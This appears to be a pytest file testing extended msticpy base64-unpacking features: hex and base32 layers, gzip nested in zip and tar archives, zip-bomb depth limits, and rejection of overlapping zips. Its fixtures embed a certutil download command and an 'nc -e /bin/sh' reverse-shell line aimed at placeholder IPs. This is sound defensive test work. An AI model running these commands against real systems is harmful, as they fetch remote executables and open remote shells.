"""base64unpack beyond msticpy: hex and base32 layers, nested archives, overlapping zips."""

from __future__ import annotations

import base64
import binascii
import gzip
import io
import struct
import tarfile
import zipfile
import zlib

import pandas as pd
import pytest

from msticpy.common.limits import Limits, default_limits, set_default_limits
from msticpy.transform import base64unpack as b64

COMMAND = b"certutil -urlcache -f http://203.0.113.9/p.exe p.exe"


def test_hex_layer_changes_nothing_unless_asked() -> None:
    line = "cmd /c " + binascii.hexlify(COMMAND).decode()
    _, plain = b64.unpack(line)
    assert "source_encoding" not in plain.columns
    assert plain.iloc[0]["encoding_type"] == "binary"  # msticpy reads hex as base64

    text, frame = b64.unpack(line, decode_hex=True)
    assert list(frame.columns)[-1] == "source_encoding"
    assert frame.iloc[0]["source_encoding"] == "hex"
    assert frame.iloc[0]["decoded_string"] == COMMAND.decode()
    assert text == (
        "cmd /c <decoded type='string' name='[None]' index='1' depth='1'>"
        f"{COMMAND.decode()}</decoded>"
    )


def test_hex_hash_keeps_msticpys_reading() -> None:
    line = "md5=d41d8cd98f00b204e9800998ecf8427e"
    text, frame = b64.unpack(line, decode_hex=True)
    assert frame.iloc[0]["source_encoding"] == "base64"
    assert text == b64.unpack(line)[0]


def test_base32_layer_with_long_padding() -> None:
    encoded = base64.b32encode(COMMAND[:46]).decode()
    assert encoded.endswith("====")
    text, frame = b64.unpack(f"x {encoded} y", decode_base32=True)
    assert frame.iloc[0]["source_encoding"] == "base32"
    assert frame.iloc[0]["decoded_string"] == COMMAND[:46].decode()
    assert frame.iloc[0]["original_string"] == encoded
    assert text.endswith("</decoded> y")


def test_unpack_df_layers_column_only_when_asked() -> None:
    data = pd.DataFrame({"cmd": ["run " + binascii.hexlify(COMMAND).decode(), "nothing"]})
    plain = b64.unpack_df(data, "cmd")
    assert "source_encoding" not in plain.columns
    out = b64.unpack_df(data, "cmd", decode_hex=True)
    assert out["source_encoding"].tolist() == ["hex"]
    assert out["decoded_string"].tolist() == [COMMAND.decode()]
    via_items = b64.unpack_items(data=data, column="cmd", decode_hex=True)
    pd.testing.assert_frame_equal(out, via_items)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@pytest.mark.parametrize("outer", ["zip", "stored_zip", "tar"])
def test_nested_gzip_inside_archives(outer: str) -> None:
    inner = gzip.compress(b"nc -e /bin/sh 198.51.100.2 4444")
    members = {"notes.txt": b"hello", "stage.gz": inner}
    blob = {
        "zip": lambda: _zip(members),
        "stored_zip": lambda: _zip(members, zipfile.ZIP_STORED),
        "tar": lambda: _tar(members),
    }[outer]()
    line = "payload " + base64.b64encode(blob).decode()
    _, plain = b64.unpack(line)
    assert "stage.gz/gzip_file" not in plain["file_name"].tolist()

    text, frame = b64.unpack(line, nested_archives=True)
    names = frame["file_name"].tolist()
    assert names == ["notes.txt", "stage.gz", "stage.gz/gzip_file"]
    row = frame.iloc[2]
    assert row["file_type"] == "gz"
    assert row["decoded_string"] == "nc -e /bin/sh 198.51.100.2 4444"
    assert row["sha256"] == b64.get_hashes(b"nc -e /bin/sh 198.51.100.2 4444")["sha256"]
    assert "name='[gz] Filename: stage.gz/gzip_file'" in text


def test_nested_zip_bomb_is_bounded() -> None:
    blob = b"core"
    for level in range(30):
        blob = _zip({f"l{level}.zip": blob})
    _, frame = b64.unpack("x " + base64.b64encode(blob).decode(), nested_archives=True)
    assert len(frame) == default_limits().b64_max_depth + 1


def _overlapping_zip() -> bytes:
    """Two central-directory entries sharing one local entry (Fifield's construction)."""
    data = b"hello world, shared by every entry"
    crc = zlib.crc32(data)
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), 1, 0
    )
    body = local + b"a" + data
    central = b""
    for name in (b"a", b"b", b"c"):
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            0,
            0,
            0,
            crc,
            len(data),
            len(data),
            1,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        central += name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 3, 3, len(central), len(body), 0)
    return body + central + end


def test_overlapping_zip_is_refused_with_a_status() -> None:
    blob = _overlapping_zip()
    with pytest.raises(zipfile.BadZipFile, match="overlapping_entries"):
        b64.get_items_from_zip(blob)
    _, frame = b64.unpack("x " + base64.b64encode(blob).decode(), nested_archives=True)
    assert frame.attrs["b64_status"] == ["overlapping_entries"]
    assert frame.iloc[0]["file_name"] == "unknown"
    previous = default_limits()
    try:
        set_default_limits(archive_reject_overlap=False)
        _, members = b64.get_items_from_zip(blob)
        assert list(members) == ["a", "b", "c"]
    finally:
        set_default_limits(previous)

    assert Limits().archive_reject_overlap is True
